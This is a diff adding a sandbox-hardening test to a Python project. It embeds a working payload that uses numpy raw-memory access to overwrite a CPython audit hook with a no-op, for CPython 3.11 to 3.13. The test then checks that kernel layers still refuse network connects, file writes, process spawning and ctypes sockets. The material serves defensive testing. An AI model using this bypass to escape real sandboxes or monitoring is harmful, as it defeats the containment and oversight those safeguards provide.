@@ -484,3 +484,85 @@ def test_unsafe_python_needs_tools():
 
     with pytest.raises(ChatforgeError, match="--unsafe-python is about the tools' python code: it needs --tools"):
         chat_tools(None, None, True)
+
+
+# The review's attack 1: numpy's __array_interface__ gives raw memory; from a refused call's
+# traceback to the hook's frame (read as memory, not as the audited tb_frame), its function, whose
+# code is replaced with a no-op. CPython 3.11-3.13 layouts.
+NUMPY_BYPASS = """
+import sys, types
+import numpy as np
+
+def mem(addr, n):
+    class Raw:
+        pass
+    raw = Raw()
+    raw.__array_interface__ = {"data": (addr, False), "shape": (n,), "typestr": "|u1", "version": 3}
+    return np.asarray(raw)
+
+def ptr(addr):
+    return int.from_bytes(mem(addr, 8).tobytes(), "little")
+
+def poke(addr, value):
+    mem(addr, 8)[:] = np.frombuffer(value.to_bytes(8, "little"), np.uint8)
+
+try:
+    open("/nonexistent-dir/x", "w")
+except PermissionError as e:
+    tb = e.__traceback__
+while tb.tb_next is not None:
+    tb = tb.tb_next
+frame = ptr(id(tb) + 24)                     # PyTracebackObject.tb_frame
+iframe = ptr(frame + 24)                     # PyFrameObject.f_frame
+func = ptr(iframe + (0 if sys.version_info < (3, 12) else 16))  # f_func / f_funcobj
+assert ptr(func + 8) == id(types.FunctionType), "not a function"
+noop = (lambda event, args: None).__code__
+keep = [noop]
+poke(id(noop), ptr(id(noop)) + 1)            # one more reference: the hook holds it now
+poke(func + 48, id(noop))                    # PyFunctionObject.func_code
+import ctypes                                # refused by the hook before
+print("HOOK BYPASSED", flush=True)
+"""
+
+
+@pytest.mark.skipif(not (3, 11) <= sys.version_info[:2] <= (3, 13), reason="object layouts of CPython 3.11-3.13")
+def test_numpy_raw_memory_bypass_meets_the_kernel_layers(runs):
+    tag = uuid.uuid4().hex[:10]
+    with socket.socket() as srv:
+        srv.bind(("127.0.0.1", 0))
+        srv.listen()
+        srv.setblocking(False)
+        after = (
+            "import os, socket\n"
+            "def attempt(name, f):\n"
+            "    try:\n"
+            "        f()\n"
+            "        print('ALLOWED', name)\n"
+            "    except OSError as e:\n"
+            "        print('refused', name)\n"
+            "def system():\n"
+            "    if os.system('true') != 0:\n"
+            "        raise OSError('no process')\n"
+            f"attempt('connect', lambda: socket.create_connection(('127.0.0.1', {srv.getsockname()[1]}), timeout=2))\n"
+            f"attempt('write in /run/lock', lambda: open('/run/lock/sbx-{tag}', 'w'))\n"
+            "attempt('system', system)\n"
+            "def raw_socket():\n"
+            "    if ctypes.CDLL(None).socket(2, 1, 0) < 0:\n"
+            "        raise OSError('no socket')\n"
+            "attempt('socket through ctypes', raw_socket)\n"
+        )
+        try:
+            r = run_python(NUMPY_BYPASS + after, config=SMALL)
+            hook_only = run_python(NUMPY_BYPASS + after, config=HOOK_ONLY)
+        finally:
+            leaked = os.path.lexists(f"/run/lock/sbx-{tag}")
+            if leaked:
+                os.remove(f"/run/lock/sbx-{tag}")
+        with pytest.raises(BlockingIOError):
+            srv.accept()
+    assert not leaked
+    # the hook falls (as CPython says it may), the kernel layers hold
+    assert r.stdout.startswith("HOOK BYPASSED\n"), r.stderr
+    assert "ALLOWED" not in r.stdout and r.stdout.count("refused") == 4, r.stdout + r.stderr
+    # without the kernel layers numpy is not there to start with
+    assert hook_only.stdout == "" and "importing numpy is not allowed" in hook_only.stderr
